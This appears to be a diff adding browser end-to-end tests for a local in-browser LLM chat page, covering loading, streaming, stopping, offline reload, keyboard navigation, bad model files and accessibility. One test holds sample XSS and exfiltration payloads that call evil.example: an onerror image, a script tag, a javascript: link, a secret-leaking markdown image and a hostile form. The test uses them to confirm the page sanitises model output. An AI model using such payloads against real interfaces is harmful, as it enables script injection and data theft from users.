@@ -1,0 +1,210 @@
+/** The chat page as built, in Chromium, on both backends: load, chat, stop, reload with the model unreachable, keyboard only, hostile output. */
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { fileURLToPath } from 'node:url';
+import type { Browser, BrowserContext, Page } from 'playwright';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { launchChromium } from './harness';
+import { serveSite, type Site } from './site';
+
+const MODEL = /\.gguf$/;
+const PATIENCE = 120_000;
+
+let site: Site;
+beforeAll(async () => {
+  site = await serveSite();
+});
+afterAll(() => site?.close());
+
+/** A page that has finished loading the model. */
+async function visit(context: BrowserContext, query: string): Promise<Page> {
+  const page = await context.newPage();
+  page.on('console', (message) => message.type() === 'error' && console.error(`page: ${message.text()}`));
+  page.on('pageerror', (error) => console.error(`page: ${error.stack ?? error}`));
+  await page.goto(site.url + query);
+  await ready(page);
+  return page;
+}
+
+async function ready(page: Page): Promise<void> {
+  await page.waitForSelector('#about:visible, #trouble:visible', { timeout: PATIENCE });
+  expect(await page.innerText('#trouble')).toBe('');
+}
+
+const replies = (page: Page): Promise<string[]> => page.locator('#messages .assistant .body').allInnerTexts();
+const finished = (page: Page, count: number): Promise<unknown> =>
+  page.waitForFunction((n) => document.querySelectorAll('#messages .assistant:not([aria-busy]) .foot button').length === n, count, { timeout: PATIENCE });
+
+describe.each([
+  { backend: 'wasm', name: /WASM/ },
+  { backend: 'webgpu', name: /WebGPU/ },
+] as const)('on $backend', ({ backend, name }) => {
+  let browser: Browser;
+  let context: BrowserContext;
+  beforeAll(async () => {
+    browser = await launchChromium({ webgpu: backend === 'webgpu' });
+  });
+  afterAll(() => browser?.close());
+  beforeEach(async () => {
+    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+    site.asked.length = 0;
+    site.refuse = undefined;
+  });
+  afterEach(() => context.close());
+
+  test('load, chat, stop, reload from the cache with the model unreachable', async () => {
+    const page = await visit(context, `?backend=${backend}`);
+    expect(await page.innerText('#about-summary')).toMatch(name);
+    expect(site.asked.filter((path) => MODEL.test(path)).length).toBeGreaterThan(0);
+
+    await page.fill('#prompt', 'Hello!');
+    await page.click('#send');
+    await finished(page, 1);
+    const [first] = await replies(page);
+    expect(first.trim()).not.toBe('');
+    expect(await page.innerText('#messages .assistant .foot')).toMatch(/[\d.]+ tok\/s · first token after/);
+
+    await page.fill('#prompt', 'Tell me more.');
+    await page.press('#prompt', 'Enter');
+    await page.waitForFunction(() => (document.querySelector('#messages [aria-busy] .body')?.textContent ?? '').length > 4, undefined, { timeout: PATIENCE });
+    await page.click('#stop');
+    await finished(page, 2);
+    expect(await page.innerText('#messages .assistant:last-child .foot')).toContain('Stopped');
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe('prompt');
+
+    // the server delivers the page, but no model
+    site.refuse = MODEL;
+    site.asked.length = 0;
+    await page.reload();
+    await ready(page);
+    expect(site.asked.filter((path) => MODEL.test(path))).toEqual([]);
+    expect(await page.locator('#messages li').count()).toBe(4);
+    expect((await replies(page))[0]).toBe(first);
+    await page.fill('#prompt', 'Still there?');
+    await page.press('#prompt', 'Enter');
+    await finished(page, 3);
+  });
+
+  test('keyboard only', async () => {
+    const page = await visit(context, `?backend=${backend}`);
+    const focused = (): Promise<string> => page.evaluate(() => document.activeElement?.id || document.activeElement?.className || '');
+    /** Tabs on until the element has the focus, as a person without a mouse does. */
+    const reach = async (id: string, key = 'Tab'): Promise<void> => {
+      for (let i = 0; i < 40 && (await focused()) !== id; i++) await page.keyboard.press(key);
+      expect(await focused()).toBe(id);
+      expect(await page.evaluate(() => getComputedStyle(document.activeElement ?? document.body).outlineStyle)).not.toBe('none');
+    };
+    await reach('prompt');
+    await page.keyboard.type('Hello!');
+    await page.keyboard.press('Enter');
+    await page.waitForSelector('#messages .assistant', { timeout: PATIENCE });
+    await page.keyboard.press('Escape');
+    await finished(page, 1);
+
+    await reach('open-settings', 'Shift+Tab');
+    await page.keyboard.press('Enter');
+    await page.waitForSelector('#settings[open]');
+    await reach('system');
+    await page.keyboard.type('Be brief.');
+    await page.keyboard.press('Escape');
+    expect(await page.locator('#settings[open]').count()).toBe(0);
+    expect(await focused()).toBe('open-settings');
+
+    await reach('choose', 'Shift+Tab');
+    await page.keyboard.press('Enter');
+    await page.waitForSelector('#models[open]');
+    await reach('card');
+    await page.keyboard.press('Enter');
+    await page.waitForSelector('#about', { state: 'hidden' });
+    await ready(page);
+
+    await reach('new-chat');
+    await page.keyboard.press('Enter');
+    expect(await page.locator('#messages li').count()).toBe(0);
+    expect(await focused()).toBe('prompt');
+  });
+});
+
+describe('the page', () => {
+  let browser: Browser;
+  let context: BrowserContext;
+  beforeAll(async () => {
+    browser = await launchChromium();
+  });
+  afterAll(() => browser?.close());
+  beforeEach(async () => {
+    context = await browser.newContext();
+    site.refuse = undefined;
+  });
+  afterEach(() => context.close());
+
+  test('says what is wrong with a model, and loads another one after it', async () => {
+    const page = await context.newPage();
+    await page.goto(`${site.url}?backend=wasm&model=${encodeURIComponent(`${site.url}chat/nothing.gguf`)}`);
+    await page.waitForSelector('#trouble:visible', { timeout: PATIENCE });
+    expect(await page.innerText('#trouble-title')).toBe('The model cannot be reached');
+    expect(await page.innerText('#trouble-text')).toContain('404');
+    await page.click('#trouble-choose');
+    await page.setInputFiles('#file', fileURLToPath(new URL('../public/models/rivulet-tiny.gguf', import.meta.url)));
+    await ready(page);
+    expect(await page.innerText('#model-name')).toBe('rivulet-tiny.gguf');
+    await page.click('#choose');
+    await page.setInputFiles('#file', { name: 'broken.gguf', mimeType: 'application/octet-stream', buffer: Buffer.from('not a model') });
+    await page.waitForSelector('#trouble:visible', { timeout: PATIENCE });
+    expect(await page.innerText('#trouble-title')).toBe('This model file cannot be used');
+  });
+
+  test('what a model writes runs nothing and asks for nothing', async () => {
+    const hostile = [
+      '<img src="https://evil.example/x" onerror="window.hit = 1"><script>window.hit = 1</script>',
+      '![secret](https://evil.example/?q=secret) [click](javascript:window.hit=1) [fine](https://example.org)',
+      '<form action="https://evil.example"><input name=q></form> <style>body{display:none}</style>',
+      '**bold** and `code`\n\n```html\n<b>shown</b>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
+    ].join('\n\n');
+    await context.addInitScript(
+      (content) => localStorage.setItem('rivulet-chat.turns', JSON.stringify([{ role: 'user', content: '<b>me</b>' }, { role: 'assistant', content }])),
+      hostile,
+    );
+    const strangers: string[] = [];
+    context.on('request', (request) => request.url().includes('evil.example') && strangers.push(request.url()));
+    const page = await visit(context, '?backend=wasm');
+    const body = page.locator('#messages .assistant .body');
+    expect(await body.locator('img, script, form, input, style, [onerror]').count()).toBe(0);
+    expect(await body.locator('a').evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]))).toEqual([
+      [null, 'noopener noreferrer'],
+      ['https://example.org', 'noopener noreferrer'],
+    ]);
+    expect(await body.locator('strong').innerText()).toBe('bold');
+    expect(await body.locator('pre').innerText()).toContain('<b>shown</b>');
+    expect(await body.locator('td').count()).toBe(2);
+    expect(await page.innerText('#messages .user .body')).toBe('<b>me</b>');
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
+    expect(strangers).toEqual([]);
+  });
+
+  test.each(['light', 'dark'] as const)('has nothing that an accessibility checker objects to, %s', async (colorScheme) => {
+    const page = await visit(context, '?backend=wasm');
+    await page.emulateMedia({ colorScheme });
+    await page.setViewportSize({ width: 320, height: 640 });
+    await page.fill('#prompt', 'Hello!');
+    await page.press('#prompt', 'Enter');
+    await page.waitForSelector('#messages .assistant', { timeout: PATIENCE });
+    await page.keyboard.press('Escape');
+    await page.waitForSelector('#send:visible', { timeout: PATIENCE });
+    await page.evaluate(readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8'));
+    const objections = (): Promise<string[]> =>
+      page.evaluate(async () => {
+        const { axe } = window as unknown as { axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> } };
+        const { violations } = await axe.run();
+        return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
+      });
+    expect(await objections()).toEqual([]);
+    for (const [button, name] of [['#choose', '#models'], ['#open-settings', '#settings']] as const) {
+      await page.click(button);
+      await page.waitForSelector(`${name}[open]`);
+      expect(await objections()).toEqual([]);
+      await page.keyboard.press('Escape');
+    }
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
+  });
+});
